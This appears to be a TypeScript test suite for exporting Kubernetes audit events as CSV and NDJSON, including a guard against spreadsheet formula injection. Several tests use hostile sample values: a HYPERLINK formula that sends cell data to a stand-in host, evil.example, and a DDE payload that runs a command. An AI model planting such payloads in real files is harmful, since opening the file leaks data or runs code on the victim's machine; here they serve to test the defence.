import type { EventItem } from './audit-query';
import { csvCell, EXPORT_CONTENT_TYPES, exportLines } from './event-export';

function item(overrides: Partial<EventItem> = {}): EventItem {
  return {
    id: '019ad4a0-0c7b-7000-8000-000000000001',
    cluster: 'prod-eu',
    auditID: 'a1',
    stage: 'ResponseComplete',
    level: 'Request',
    verb: 'create',
    username: 'alice',
    groups: ['system:authenticated', 'devs'],
    impersonatedUser: null,
    sourceIPs: ['10.0.0.7'],
    userAgent: 'kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd',
    apiGroup: 'apps',
    apiVersion: 'v1',
    resource: 'deployments',
    subresource: '',
    namespace: 'prod',
    name: 'web',
    responseCode: 201,
    decision: 'allow',
    requestReceivedTimestamp: '2026-11-30T10:00:00.000000Z',
    stageTimestamp: '2026-11-30T10:00:00.004000Z',
    requestURI: '/apis/apps/v1/namespaces/prod/deployments',
    summary: 'alice created Deployment `web` in namespace `prod`',
    kubectl: { command: 'kubectl create -f - <<EOF\n...\nEOF', fidelity: 'exact', notes: [] },
    detections: [],
    ...overrides,
  };
}

async function* from<T>(values: T[]): AsyncGenerator<T> {
  for (const value of values) yield value;
}

async function collect(items: EventItem[], format: 'csv' | 'ndjson'): Promise<string[]> {
  const lines: string[] = [];
  for await (const line of exportLines(from(items), format)) lines.push(line);
  return lines;
}

/** A minimal RFC 4180 reader: the records of a CSV text. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  expect(quoted).toBe(false);
  if (cell !== '' || record.length > 0) {
    record.push(cell);
    records.push(record);
  }
  return records;
}

describe('csvCell', () => {
  it('leaves plain text and numbers as they are; null is empty', () => {
    expect(csvCell('alice')).toBe('alice');
    expect(csvCell('system:serviceaccount:kube-system:default')).toBe(
      'system:serviceaccount:kube-system:default',
    );
    expect(csvCell(403)).toBe('403');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('quotes a cell with a comma, a quote or a line break, doubling quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line1\nline2')).toBe('"line1\nline2"');
    expect(csvCell('line1\r\nline2')).toBe('"line1\r\nline2"');
    expect(csvCell('"')).toBe('""""');
  });

  it('quotes a cell with leading or trailing spaces, so readers keep them', () => {
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('trailing ')).toBe('"trailing "');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'prefixes a text starting with %j with an apostrophe (formula injection)',
    (start) => {
      const value = `${start}HYPERLINK("http://evil.example/?x="&A1)`;
      const cell = csvCell(value);
      const [[read]] = parseCsv(cell);
      expect(read).toBe(`'${value}`);
    },
  );

  it('prefixes formulas, keeping the rest of the cell intact', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell('=cmd|"/c calc"!A0')).toBe(`"'=cmd|""/c calc""!A0"`);
  });

  it('does not prefix a formula character that is not first', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('kube-system')).toBe('kube-system');
    expect(csvCell('alice@example.com')).toBe('alice@example.com');
  });

  it('round-trips any text through an RFC 4180 reader (apart from the formula guard)', () => {
    for (const value of ['a', 'a,b', 'a"b', 'x\ny', ' lead', 'tail ', 'é ✓ 東京', 'a\r\nb,"c"']) {
      expect(parseCsv(csvCell(value))).toEqual([[value]]);
    }
  });
});

describe('exportLines', () => {
  const alice = item();
  const bob = item({
    id: '019ad4a0-0c7b-7000-8000-000000000002',
    username: '=cmd|"/c calc"!A0',
    groups: [],
    impersonatedUser: 'carol',
    sourceIPs: ['10.0.0.1', '10.0.0.2'],
    verb: 'delete',
    responseCode: null,
    decision: null,
    name: 'a,b',
    summary: 'line one\nline two',
    kubectl: {
      command: 'kubectl delete deployments "a,b" -n prod',
      fidelity: 'partial',
      notes: ['x'],
    },
  });

  it('csv: a header row, then one row per item, CRLF-terminated', async () => {
    const lines = await collect([alice, bob], 'csv');
    expect(lines).toHaveLength(3);
    for (const line of lines) expect(line.endsWith('\r\n')).toBe(true);
    const records = parseCsv(lines.join(''));
    expect(records).toHaveLength(3);
    const [header, ...rows] = records;
    for (const name of [
      'id',
      'time',
      'cluster',
      'user',
      'impersonatedUser',
      'groups',
      'sourceIPs',
      'verb',
      'resource',
      'namespace',
      'name',
      'code',
      'decision',
      'userAgent',
      'requestURI',
      'auditID',
      'summary',
      'kubectl',
    ]) {
      expect(header).toContain(name);
    }
    for (const row of rows) expect(row).toHaveLength(header.length);

    const [a, b] = rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
    expect(a).toMatchObject({
      id: alice.id,
      time: alice.stageTimestamp,
      cluster: 'prod-eu',
      user: 'alice',
      impersonatedUser: '',
      groups: 'system:authenticated devs',
      sourceIPs: '10.0.0.7',
      verb: 'create',
      resource: 'deployments',
      namespace: 'prod',
      name: 'web',
      code: '201',
      decision: 'allow',
      summary: alice.summary,
      kubectl: alice.kubectl.command,
    });
    expect(b).toMatchObject({
      id: bob.id,
      user: `'=cmd|"/c calc"!A0`,
      impersonatedUser: 'carol',
      groups: '',
      sourceIPs: '10.0.0.1 10.0.0.2',
      name: 'a,b',
      code: '',
      decision: '',
      summary: 'line one\nline two',
      kubectl: bob.kubectl.command,
    });
  });

  it('csv with no items: the header alone', async () => {
    const lines = await collect([], 'csv');
    expect(lines).toHaveLength(1);
    expect(lines[0].split(',')[0]).toBe('id');
  });

  it('ndjson: one JSON document per line, the item itself, no header', async () => {
    const lines = await collect([alice, bob], 'ndjson');
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line.endsWith('\n')).toBe(true);
      expect(line.slice(0, -1)).not.toContain('\n');
    }
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([alice, bob]);
  });

  it('ndjson with no items: nothing', async () => {
    expect(await collect([], 'ndjson')).toEqual([]);
  });

  it('declares UTF-8 content types', () => {
    expect(EXPORT_CONTENT_TYPES.csv).toMatch(/^text\/csv;.*utf-8/);
    expect(EXPORT_CONTENT_TYPES.ndjson).toMatch(/^application\/x-ndjson;.*utf-8/);
  });
});
